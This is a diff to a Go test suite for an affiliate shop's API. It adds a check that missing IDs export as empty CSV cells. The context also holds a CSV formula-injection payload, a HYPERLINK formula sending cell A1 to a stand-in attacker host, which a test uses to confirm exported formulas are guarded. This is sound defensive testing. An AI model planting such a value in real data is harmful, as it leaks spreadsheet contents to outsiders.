@@ -142,6 +142,20 @@ func TestNoCellIsAFormula(t *testing.T) {
 	}
 }
 
+// A number that something has not is an empty cell: a spreadsheet would group by 0 as if it were an affiliate.
+func TestAbsentNumbersAreEmptyCells(t *testing.T) {
+	s := newShop(t)
+	s.do("POST", "conversions", sale).want(http.StatusCreated) // which nobody earns
+	row := s.do("GET", "conversions?format=csv", nil).readCSV()[0]
+	if row["affiliate_id"] != "" || row["campaign_id"] != "" || row["link_id"] != "" || row["wage"] != "0" {
+		t.Errorf("the conversion is %v", row)
+	}
+	row = s.do("GET", "reports?from=2026-11-21&to=2026-11-21&format=csv", nil).readCSV()[0]
+	if row["affiliate_id"] != "" || row["campaign_id"] != "" || row["link_id"] != "" || row["wage"] != "0" {
+		t.Errorf("the report's line is %v", row)
+	}
+}
+
 func TestFormulasInTheBooksAreGuarded(t *testing.T) {
 	s := newShop(t)
 	s.do("POST", "affiliates", fields{"name": `=HYPERLINK("http://evil.example/?"&A1)`}).want(http.StatusCreated)
